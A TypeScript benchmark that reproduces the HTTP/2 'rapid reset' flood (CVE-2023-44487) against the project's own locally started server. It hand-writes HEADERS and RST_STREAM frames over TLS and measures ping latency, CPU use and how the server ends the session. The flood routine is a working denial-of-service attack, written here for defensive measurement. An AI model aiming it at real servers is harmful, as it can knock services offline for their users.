/**
 * `node bench/rapidReset.ts [--against DIR] [--streams N] [--batch N] [--rounds N] [--code N]`: what an HTTP/2 "rapid reset"
 * flood (CVE-2023-44487: a stream's HEADERS, then its RST_STREAM at once, over and over on one
 * session) does to a lake. A lake of its own over TLS (HTTP/2 is offered only there), a dataset of
 * 200 documents; a raw client (frames written by hand on a TLS socket, so nothing queues or
 * coalesces them) opens `--streams` query streams (default 50,000), each reset (`--code`, default 8: CANCEL) in the same
 * write as its HEADERS, `--batch` pairs a write (default 500). Meanwhile another session GETs
 * `/ping` back to back, timed. Rounds alternate idle (pings alone) and flood (`--rounds`, default
 * 2). Printed per phase: the pings' p50, p90 and worst, the lake's CPU, and for a flood how many
 * streams were sent before the lake ended the session, how (GOAWAY's code, or the socket closed),
 * and how many answers (HEADERS) it began. The same session also times an honest query (the
 * flood's, with the token) after each ping. With `--against DIR` (another checkout, with its
 * node_modules) its lake is A and this one's B, a lake of each per round, alternated (A B, B A,
 * …). Nothing is written to bench/results.
 */
import http2 from 'node:http2'
import {mkdtemp, rm} from 'node:fs/promises'
import {loadavg, tmpdir} from 'node:os'
import {join} from 'node:path'
import tls from 'node:tls'
import {readFileSync} from 'node:fs'
import type {LakeProcess} from '../kit/lakeProcess.ts'
import {benchFlags} from './flags.ts'
import {FRAME, frame, literal} from './http2Frames.ts'
import {abSides, alternated, cpuSecondsOf, type StartLake} from './lake.ts'
import {median, quantile} from './stats.ts'

const flags = benchFlags(import.meta.filename, {
  streams: {type: 'string', default: '50000'},
  batch: {type: 'string', default: '500'},
  rounds: {type: 'string', default: '2'},
  code: {type: 'string', default: '8'},
  against: {type: 'string'},
})
const STREAMS = Number(flags.streams)
const BATCH = Number(flags.batch)
const ROUNDS = Number(flags.rounds)
const API = 'v2025-02-19'
const DATASET = 'reset'

const profileDir = process.env.BENCH_CPU_PROF
let lake!: LakeProcess
let ca!: string
let headerBlock!: Buffer

/** Starts a lake of `start`'s checkout over a fresh data folder, seeded. */
async function startSide(start: StartLake): Promise<string> {
  const dataDir = await mkdtemp(join(tmpdir(), 'lake-reset-'))
  lake = await start({
    dataDir,
    // `BENCH_CPU_PROF=<dir>`: the lake writes a V8 CPU profile there when it stops.
    nodeFlags: profileDir ? ['--cpu-prof', `--cpu-prof-dir=${profileDir}`] : [],
    env: {
      ...process.env,
      LAKE_ADMIN_EMAIL: 'bench@localhost',
      LAKE_ADMIN_PASSWORD: 'bench-password-not-secret',
    },
  })
  ca = readFileSync(lake.caPath!, 'utf8')
  headerBlock = Buffer.from([
    0x82, // :method GET
    0x87, // :scheme https
    ...literal(1, `localhost:${lake.port}`),
    ...literal(4, `/${API}/data/query/${DATASET}?query=${QUERY}`),
    ...literal(23, `Bearer ${lake.token}`),
  ])
  await seed()
  return dataDir
}

const QUERY = encodeURIComponent('*[_type == "item"] | order(n desc)[0...20]{_id, n}')
const RESET = Buffer.alloc(4)
RESET.writeUInt32BE(Number(flags.code))

interface SessionResult {
  sent: number
  /** How the session ended: GOAWAY's error code, or the socket closing without one. */
  ended: string
  answersBegun: number
  resetsFromLake: number
}

/** One session of HEADERS + RST_STREAM pairs, `BATCH` a write, until `streams` or the lake ends it. */
function floodSession(streams: number): Promise<SessionResult> {
  return new Promise((resolve) => {
    const socket = tls.connect({
      host: '127.0.0.1',
      port: lake.port,
      servername: 'localhost',
      ca,
      ALPNProtocols: ['h2'],
    })
    const result: SessionResult = {sent: 0, ended: 'not ended', answersBegun: 0, resetsFromLake: 0}
    let closed = false
    let pending = Buffer.alloc(0)
    socket.on('data', (chunk: Buffer) => {
      pending = Buffer.concat([pending, chunk])
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3)
        if (pending.length < 9 + length) break
        const type = pending[3]
        const payload = pending.subarray(9, 9 + length)
        if (type === 1) result.answersBegun++
        if (type === 3) result.resetsFromLake++
        if (type === FRAME.settings && (pending[4]! & 1) === 0)
          socket.write(frame(FRAME.settings, 1, 0, Buffer.alloc(0)))
        if (type === 7 && result.ended === 'not ended') {
          result.ended = `GOAWAY ${http2Code(payload.readUInt32BE(4))} after ${result.sent} streams`
        }
        pending = pending.subarray(9 + length)
      }
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      closed = true
      if (result.ended === 'not ended') result.ended = `closed after ${result.sent} streams`
      resolve(result)
    })
    socket.once('secureConnect', async () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
      socket.write(frame(FRAME.settings, 0, 0, Buffer.alloc(0)))
      for (let id = 1; result.sent < streams && !closed && result.ended === 'not ended';) {
        const frames: Buffer[] = []
        for (let i = 0; i < BATCH && result.sent < streams; i++, id += 2, result.sent++) {
          frames.push(
            frame(FRAME.headers, 0x5, id, headerBlock),
            frame(FRAME.rstStream, 0, id, RESET),
          )
        }
        if (!socket.write(Buffer.concat(frames))) {
          await new Promise<void>((drained) => {
            const done = () => {
              socket.off('drain', done).off('close', done)
              drained()
            }
            socket.on('drain', done).on('close', done)
          })
        }
      }
      // Then a GOAWAY of its own and the end, as a client that is done.
      if (!closed) socket.end(frame(FRAME.goaway, 0, 0, Buffer.from([0, 0, 0, 0, 0, 0, 0, 0])))
    })
  })
}

interface FloodResult {
  sent: number
  sessions: number
  /** How the sessions ended, counted by kind. */
  endings: Map<string, number>
  answersBegun: number
  resetsFromLake: number
}

/** Sessions one after another, each as long as the lake lets it, until STREAMS were sent. */
async function flood(): Promise<FloodResult> {
  const total: FloodResult = {
    sent: 0,
    sessions: 0,
    endings: new Map(),
    answersBegun: 0,
    resetsFromLake: 0,
  }
  while (total.sent < STREAMS) {
    const one = await floodSession(STREAMS - total.sent)
    total.sent += one.sent
    total.sessions++
    const kind = one.ended.replace(/ after \d+ streams/, '')
    total.endings.set(kind, (total.endings.get(kind) ?? 0) + 1)
    total.answersBegun += one.answersBegun
    total.resetsFromLake += one.resetsFromLake
  }
  return total
}

const CODES = ['NO_ERROR', 'PROTOCOL_ERROR', 'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR']
function http2Code(code: number): string {
  return code === 11 ? 'ENHANCE_YOUR_CALM' : (CODES[code] ?? String(code))
}

/**
 * Pings, each followed by an honest query, on a session of their own, 10 ms apart, until `done`;
 * each one's milliseconds.
 */
async function pings(done: Promise<unknown>): Promise<{ping: number[]; query: number[]}> {
  const session = http2.connect(lake.url, {ca})
  session.on('error', () => {})
  let stop = false
  void done.then(() => (stop = true))
  const samples = {ping: [] as number[], query: [] as number[]}
  // A request that failed (its session gone) is no sample: counted, its instant failures read as
  // sub-millisecond answers.
  let failed = 0
  const timed = async (headers: http2.OutgoingHttpHeaders, into: number[]): Promise<void> => {
    const started = performance.now()
    const ok = await new Promise<boolean>((answered) => {
      const stream = session.request(headers)
      stream.on('error', () => answered(false))
      stream.resume()
      stream.on('end', () => answered(true))
    })
    if (ok) into.push(performance.now() - started)
    else failed++
  }
  while (!stop && !session.destroyed) {
    await timed({':path': `/${API}/ping`}, samples.ping)
    await timed(
      {
        ':path': `/${API}/data/query/${DATASET}?query=${QUERY}`,
        authorization: `Bearer ${lake.token}`,
      },
      samples.query,
    )
    await new Promise((next) => setTimeout(next, 10))
  }
  // A session that failed stops the samples, not the phase.
  await done
  session.close()
  if (failed) console.error(`${failed} timed requests failed (their session ended)`)
  return samples
}

async function seed(): Promise<void> {
  const items = Array.from({length: 200}, (_, n) => ({
    createOrReplace: {_id: `item-${n}`, _type: 'item', n},
  }))
  const session = http2.connect(lake.url, {ca})
  await new Promise<void>((seeded, failed) => {
    const stream = session.request({
      ':method': 'POST',
      ':path': `/${API}/data/mutate/${DATASET}`,
      authorization: `Bearer ${lake.token}`,
      'content-type': 'application/json',
    })
    stream.on('response', (headers) =>
      headers[':status'] === 200 ? seeded() : failed(new Error(`seeding: ${headers[':status']}`)),
    )
    stream.resume()
    stream.end(JSON.stringify({mutations: items}))
  })
  session.close()
}

const sides = await abSides(flags.against)
const rows: string[] = []
for (const {side} of alternated(sides, ROUNDS)) {
  const dataDir = await startSide(side.start)
  try {
    for (const phase of ['idle', 'flood']) {
      const cpuBefore = cpuSecondsOf(lake.child.pid!) ?? 0
      const started = performance.now()
      let result: FloodResult | null = null
      const done =
        phase === 'flood'
          ? flood().then((r) => (result = r))
          : new Promise((resolve) => setTimeout(resolve, 3000))
      const {ping: samples, query} = await pings(done)
      const seconds = (performance.now() - started) / 1000
      const cpu = (cpuSecondsOf(lake.child.pid!) ?? 0) - cpuBefore
      const r = result as FloodResult | null
      rows.push(
        `${side.name} ${phase.padEnd(5)} ${seconds.toFixed(1)} s, ping p50 ${median(samples).toFixed(1)} ms, ` +
          `p90 ${quantile(samples, 0.9).toFixed(1)}, worst ${Math.max(...samples).toFixed(1)} ` +
          `(${samples.length}); query p50 ${median(query).toFixed(1)} ms; lake CPU ${cpu.toFixed(2)} s` +
          (r
            ? `; ${r.sent} streams sent on ${r.sessions} sessions (${JSON.stringify(Object.fromEntries(r.endings))}), ` +
              `${r.answersBegun} answers begun, ${r.resetsFromLake} resets from the lake`
            : ''),
      )
    }
  } finally {
    await lake.stop()
    await rm(dataDir, {recursive: true, force: true})
  }
}
console.log(
  `load ${loadavg()
    .map((n) => n.toFixed(1))
    .join(' ')}, Node ${process.versions.node} (nghttp2 ${process.versions.nghttp2})`,
)
for (const row of rows) console.log(row)
